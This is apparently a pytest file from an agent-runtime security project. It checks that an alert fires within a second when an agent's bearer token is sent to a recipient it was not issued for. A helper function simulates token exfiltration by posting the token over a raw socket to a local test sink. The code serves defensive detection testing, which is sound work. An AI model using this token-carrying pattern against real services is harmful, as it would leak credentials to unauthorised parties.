"""A token at a place that it was not issued for raises an alert within a second (attack 38)."""

from __future__ import annotations

import hashlib
import socket
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from casa_node import NewNode, Node, Sink
from casa_runtime import Cast, Json, wait_until

WITHIN = 1.0


@pytest.fixture
def node(new_node: NewNode, cast: Cast, sink: Sink, other_sink: Sink) -> Node:
    """The bank is where its endpoint says; the other place is permitted, and nobody's."""
    registered = cast.runtime.create_node(f"node-{time.time_ns()}")
    secret = Path(cast.runtime.data).parent / f"secret-of-{registered.name}"
    secret.touch(0o600)
    secret.write_text(registered.secret)

    def policy(node: Node) -> Json:
        agent = {
            "name": "agent",
            "app_id": cast.agent.id,
            "cgroup": node.path("agent"),
            "outbound": [{"to": "bank", "ports": sink.port}, {"to": "127.0.0.1", "ports": other_sink.port}],
        }
        return {"endpoints": {"bank": {"addresses": ["127.0.0.2"], "app_id": cast.bank.id}}, "workloads": [agent]}

    return new_node(policy, "--runtime", cast.runtime.url, "--node-id", registered.id, "--secret-file", str(secret))


@pytest.fixture
def sink() -> Iterator[Sink]:
    server = Sink("127.0.0.2")
    yield server
    server.close()


def carry(address: str, port: int, token: str) -> Callable[[], None]:
    def send() -> None:
        with socket.create_connection((address, port)) as connection:
            connection.sendall(f"POST /mcp HTTP/1.1\r\nAuthorization: Bearer {token}\r\n\r\n".encode())
            connection.recv(1)

    return send


@pytest.mark.attack(38, "a tool's token is carried to another place", layer="kernel")
def test_a_token_that_is_carried_elsewhere_raises_an_alert_within_a_second(
    node: Node, cast: Cast, sink: Sink, other_sink: Sink
) -> None:
    t3 = cast.t3()
    session = cast.agent.introspect(t3)
    digest = hashlib.sha256(t3.encode()).hexdigest()

    def alerts() -> list[Json]:
        events = cast.runtime.events(kind="token_exfiltration")
        return [event for event in events if event["payload"]["token_sha256"] == digest]

    with node.running():
        node.run("agent", carry("127.0.0.2", sink.port, t3))
        wait_until(
            lambda: any(e["payload"]["token_sha256"] == digest for e in cast.runtime.events(kind="token_seen")),
            "the runtime knows that the bank got its token",
        )
        assert alerts() == []

        began = time.monotonic()
        node.run("agent", carry("127.0.0.1", other_sink.port, t3))
        alert = wait_until(alerts, "the alert")[0]
        assert time.monotonic() - began < WITHIN
    assert alert["payload"]["reason"] == "recipient_unknown"
    assert alert["payload"]["remote"] == f"127.0.0.1:{other_sink.port}"
    assert alert["user_input_id"] == session["user_input_id"]
